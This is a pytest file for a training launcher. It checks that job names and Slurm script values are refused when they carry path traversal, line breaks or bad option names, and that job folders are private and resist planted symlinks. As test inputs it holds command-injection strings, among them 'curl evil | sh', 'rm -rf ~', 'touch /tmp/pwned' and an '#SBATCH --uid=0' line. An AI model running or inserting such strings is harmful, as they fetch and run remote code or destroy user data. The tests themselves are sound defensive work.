"""Issue 16 D: names and values that reach folder names and the job script. A name outside the safe set, an sbatch
option name that is not one, a line break in an #SBATCH value: each is refused with exit 2 and one line naming the
key, before anything is written or submitted. The job folder is private (0700, this user's) since the job unpickles
its config from it."""

from __future__ import annotations

import contextlib
import io
import os
import stat
from pathlib import Path

import pytest

from normia.errors import UserError
from normia.launch.spec import parse_launcher

OFFLINE = [
    "experiment=quickstart",
    "launcher=slurm",
    "launcher.query_cluster=false",
    "trainer.enable_progress_bar=false",
]


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NORMIA_OUTPUT_ROOT", raising=False)


def cli(*argv: str) -> tuple[int, str]:
    from normia.cli import main

    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer), contextlib.redirect_stderr(buffer):
        code = main(list(argv))
    return code, buffer.getvalue()


def assert_refused(code: int, text: str, fragment: str) -> None:
    assert code == 2, text
    lines = text.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and fragment in lines[0], text
    assert list(Path.cwd().iterdir()) == [], "a refused request wrote files"


@pytest.mark.parametrize("name", ["../../x", "a/b", ".hidden", "-rf", "x..y", "a b"])
def test_unsafe_job_name_is_refused_before_the_slurm_script(name: str) -> None:
    code, text = cli("train", *OFFLINE, f"name='{name}'", "--dry-run")
    assert_refused(code, text, "name=")


@pytest.mark.parametrize("flag", ["--dry-run", "--cfg"])
def test_unsafe_name_is_refused_for_a_local_run_before_any_folder(flag: str) -> None:
    """`name=../../x` would put the run folder two levels above paths.output_root."""
    code, text = cli("train", "experiment=quickstart", "name='../../x'", flag)
    assert_refused(code, text, "name='../../x' is not a safe name")


def test_newline_in_a_name_would_break_out_of_the_job_name_line() -> None:
    """From a shared YAML file a name can hold a real line break: '#SBATCH --job-name=x' then a shell command."""
    from omegaconf import OmegaConf

    from normia.launch.slurm import submit

    cfg = OmegaConf.create({"name": "x\ntouch /tmp/pwned", "launcher": {"name": "slurm"}, "overrides": []})
    with pytest.raises(UserError, match="name="):
        submit([cfg], [], dry_run=True)


@pytest.mark.parametrize(
    ("launcher", "fragment"),
    [
        ({"sbatch_args": {"x\n#SBATCH --uid=0 y": 1}}, "launcher.sbatch_args key"),
        ({"sbatch_args": {"comment": "ok\nrm -rf ~"}}, "launcher.sbatch_args.comment holds a line break"),
        ({"partition": "gpu\ncurl evil | sh"}, "launcher.partition holds a line break"),
        ({"account": "a\rb"}, "launcher.account holds a line break"),
        ({"srun_args": ["--x\nid"]}, "launcher.srun_args[0]"),
        ({"env": {"A B": "1"}}, "launcher.env key"),
    ],
)
def test_script_values_with_line_breaks_or_bad_names_are_refused(launcher: dict, fragment: str) -> None:
    with pytest.raises(UserError, match=fragment.replace("[", r"\[").replace("]", r"\]")):
        parse_launcher(launcher)


def test_sbatch_args_key_with_space_is_refused_through_the_cli() -> None:
    code, text = cli("train", *OFFLINE, "+launcher.sbatch_args={mail type: END}", "--dry-run")
    assert_refused(code, text, "launcher.sbatch_args key")


def test_job_folder_is_created_private_and_one_of_another_user_a_loose_one_or_a_link_is_refused(
    tmp_path: Path,
) -> None:
    from normia.launch.slurm import private_folder

    mine = tmp_path / "out" / "slurm"
    private_folder(mine)
    assert stat.S_IMODE(os.lstat(mine).st_mode) == 0o700
    loose = tmp_path / "loose"
    loose.mkdir(mode=0o777)
    os.chmod(loose, 0o777)
    with pytest.raises(
        UserError, match="can be written by others"
    ):  # ours, but others may have planted files
        private_folder(loose)
    link = tmp_path / "link"
    link.symlink_to(loose)
    with pytest.raises(UserError, match="not a folder"):
        private_folder(link)
    if os.geteuid() == 0:  # root can make a folder that belongs to someone else
        theirs = tmp_path / "theirs"
        theirs.mkdir()
        os.chown(theirs, 65534, 65534)
        with pytest.raises(UserError, match="belongs to another user"):
            private_folder(theirs)


def test_config_yaml_and_done_json_replace_a_planted_link_instead_of_writing_through_it(
    tmp_path: Path, normia_cli
) -> None:
    """Someone who can write in a shared run folder plants config.yaml -> a file of the user's: a plain write would
    overwrite that file. Written like checkpoints (temporary file + rename), the link itself is replaced."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").symlink_to(victim)
    result = normia_cli(
        "train",
        "experiment=quickstart",
        "trainer.enable_progress_bar=false",
        "trainer.max_steps=2",
        "logger=none",
        f"paths.output_dir={run}",
        cwd=tmp_path,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert victim.read_text() == "precious\n"
    for name in ("config.yaml", "done.json"):
        path = run / name
        assert path.is_file() and not path.is_symlink(), name
    assert not list(run.glob(".*.tmp"))
